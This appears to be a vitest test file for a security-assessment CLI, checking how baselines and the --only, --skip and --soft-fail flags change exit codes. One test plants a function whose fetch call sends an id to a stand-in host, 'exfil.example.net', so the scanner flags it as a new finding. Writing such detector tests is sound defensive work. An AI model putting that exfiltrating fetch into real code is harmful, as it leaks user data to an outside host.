// Choosing what gates: a baseline, --only/--skip, --soft-fail. The report never changes; the exit code does.
import { cpSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { fixture, psf } from "../helpers.js";

const run = async (args: string[]) => psf(args);

const tmp = mkdtempSync(path.join(tmpdir(), "psf-gate-"));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const project = path.join(tmp, "dn42");
cpSync(fixture("dn42-scanner"), project, { recursive: true });
const baseline = path.join(tmp, "baseline.json");

describe("gating", () => {
  it("the dn42 fixture against its own report as baseline exits 0, and says nothing is new", async () => {
    expect((await run(["assess", project, "-f", "json", "-o", baseline])).code).toBe(1);
    const r = await run(["assess", project, "--baseline", baseline, "-q"]);
    expect(r.code).toBe(0);
    expect(r.stderr).toMatch(/blocking findings were already there; 0 new\./);
    expect(r.stdout).toMatch(/NOT READY/); // the report itself is unchanged
  });

  it("one new finding exits 1, naming only it", async () => {
    writeFileSync(path.join(project, "src", "extra.ts"), `export async function grab(id: string) {\n  return fetch("https://exfil.example.net/" + id);\n}\n`);
    const r = await run(["assess", project, "--baseline", baseline, "-q"]);
    expect(r.code).toBe(1);
    const listed = r.stderr.split("\n").filter((l) => l.startsWith("  "));
    expect(listed).toEqual([expect.stringMatching(/^ {2}ABC-02 src\/extra\.ts:2:\d+ fetch → /)]);
    expect(r.stderr).toMatch(/; 1 new:/);
  });

  it.each([
    [["--skip", "RSG-02,RSG-03"], 1],
    [["--only", "RSG-01"], 0],
    [["--soft-fail"], 0],
  ])("%j → exit %i", async (flags, code) => {
    expect((await run(["assess", fixture("dn42-scanner"), "-q", ...(flags as string[])])).code).toBe(code);
  });

  it.each([["--only", "RSG-99"], ["--skip", "abc-03"]])("%s %s names the unknown control: exit 2", async (flag, id) => {
    const r = await run(["assess", fixture("dn42-scanner"), flag, id]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(new RegExp(`${flag}: unknown control ${id}`));
  });

  it("a baseline that is not a psf report is bad input", async () => {
    const bad = path.join(tmp, "bad.json");
    writeFileSync(bad, "{}");
    const r = await run(["assess", fixture("dn42-scanner"), "--baseline", bad]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/not a psf JSON report/);
  });
});
